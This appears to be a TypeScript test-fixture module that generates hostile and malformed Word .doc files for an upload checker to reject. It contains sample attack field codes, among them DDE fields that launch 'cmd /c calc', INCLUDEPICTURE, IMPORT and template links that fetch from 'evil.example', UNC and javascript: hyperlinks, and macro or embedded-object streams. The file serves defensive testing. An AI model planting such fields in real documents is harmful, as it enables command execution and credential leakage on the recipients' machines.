import type { FileFault } from '#server/platform/uploads/file-checks/refused.ts'
import { bad, type BadFile, firstHalf, linesOf, program } from './bad-file.ts'
import { buildDoc, buildOle, docField, type OlePart, wordStreams } from './ole.ts'
import { buildDocx } from './zip.ts'

function doc(fault: FileFault, name: string, bytes: () => Buffer): BadFile {
  return bad('doc', fault, name, bytes)
}

/** Parts of a document that run, or hold what does. */
const parts: OlePart[] = [
  ...[
    ...['Macros/VBA/_VBA_PROJECT', 'macros/vba/', '_VBA_PROJECT_CUR/dir', 'Settings/_VBA_PROJECT'],
    ...['MsoDataStore/a/VBA', 'ObjectPool/_1/x', 'objectpool/_1', '\u0001Ole10Native', 'Package'],
    ...['\u0003OCXNAME', 'Workbook', 'Gadget'],
  ].map((path): OlePart => [path]),
  // A link to another document.
  ['\u0001Ole', Buffer.from('0100000201000000', 'hex')],
  ['Data', program],
  ['Data', buildDoc()],
]

const fields = linesOf(String.raw`
  DDE cmd "/c calc" x
  dDeAuto cmd x
  INCLUDEPICTURE "http://evil.example/a.png" \d
  INCLUDETEXT "\\\\evil.example\\a.doc"
  LINK Excel.Sheet.8 "C:\\a.xls"
  EMBED Package
  MACROBUTTON AutoOpen Click
  IMPORT "http://evil.example/a"
  AUTOTEXT x
  DATABASE \d "a.mdb"
  CONTROL Forms.CommandButton.1
  PRINT "x"
  HYPERLINK "file:///C:/Windows/a.exe"
  HYPERLINK "\\\\evil.example\\share\\a.exe"
  HYPERLINK \l "here" "javascript:alert(1)"
`).concat('', ` PAGE ${docField(' DDE x y')}`, `${docField('QUOTE DDE')} x`)

/** What behind a document is another file to some readers. */
const behind: (string | Buffer)[] = [
  ...['<html><script>1</script></html>', '#!/bin/sh\necho\n', '{\\rtf1 x}', 'x'.repeat(512)],
  ...[buildDocx(), Buffer.concat([buildDocx(), Buffer.alloc(100, 'x')])],
]

const made: BadFile[] = [
  ...parts.map(([path, content], at) =>
    doc('active', `the part ${JSON.stringify(path)}, ${at}`, () => buildDoc([[path, content]])),
  ),
  ...fields.map((field) =>
    doc('active', `the field ${JSON.stringify(field)}`, () => buildDoc([], `x${docField(field)}`)),
  ),
  ...['http://evil.example/t.dot', '\\\\evil.example\\t.dot', 'file://evil.example/t.dot'].map((template) =>
    doc('active', `a template at ${template}`, () => buildDoc([], 'x', { template })),
  ),
  ...behind.map((more, at) =>
    doc('active', `another file behind, ${at}`, () => Buffer.concat([buildDoc(), Buffer.from(more)])),
  ),
  doc('active', 'a field in the answer of another', () =>
    buildDoc([], docField(' PAGE ', docField('DDE x y'))),
  ),
  doc('active', 'a field in narrow letters', () => buildDoc([], docField(' DDE x'), { narrow: true })),
  doc('locked', 'encrypted', () => buildDoc([], 'x', { flags: 0x0100 })),
  doc('locked', 'obfuscated', () => buildDoc([], 'x', { flags: 0x8000 })),
  doc('locked', 'sealed package', encryptedPackage),
  doc('damaged', 'cut in half', () => firstHalf(buildDoc())),
  doc('damaged', 'only its first bytes', () => buildDoc().subarray(0, 8)),
  doc('damaged', 'only its header', () => buildDoc().subarray(0, 512)),
  doc('damaged', 'a chain that leads into itself', loop),
  doc('damaged', 'another main stream', () => buildOle([['WordDocument']])),
  doc('damaged', 'no table', () => buildOle(wordStreams().slice(0, 1))),
  doc('damaged', 'two main streams', () => buildDoc([['WORDDOCUMENT']])),
  doc('damaged', 'a field that does not end', () => buildDoc([], '\u0013PAGE\u0014')),
  doc('damaged', 'a field that does not begin', () => buildDoc([], 'x\u0015')),
  doc('wrong kind', 'xls', () => buildOle([['Workbook']])),
  doc('wrong kind', 'msi', () => buildOle([['\u4840\u3f3f\u4577\u446c']])),
  doc('wrong kind', 'docx', () => buildDocx()),
  doc('wrong kind', 'rtf', () => Buffer.from('{\\rtf1\\ansi{\\object\\objdata 01}}')),
]

/** Word 97–2003 documents, and what passes for them. */
export const badDocs: BadFile[] = [
  ...made,
  bad('docx', 'locked', 'sealed by a password', encryptedPackage),
  bad('docx', 'wrong kind', 'doc', () => buildDoc()),
]

function encryptedPackage(): Buffer {
  return buildOle([['EncryptedPackage'], ['EncryptionInfo']])
}

function loop(): Buffer {
  const bytes = buildDoc()
  const first = bytes.readUInt32LE(bytes.indexOf('WordDocument', 0, 'utf16le') + 116)
  const fat = 512 + bytes.readUInt32LE(76) * 512
  bytes.writeUInt32LE(first, fat + first * 4)
  return bytes
}
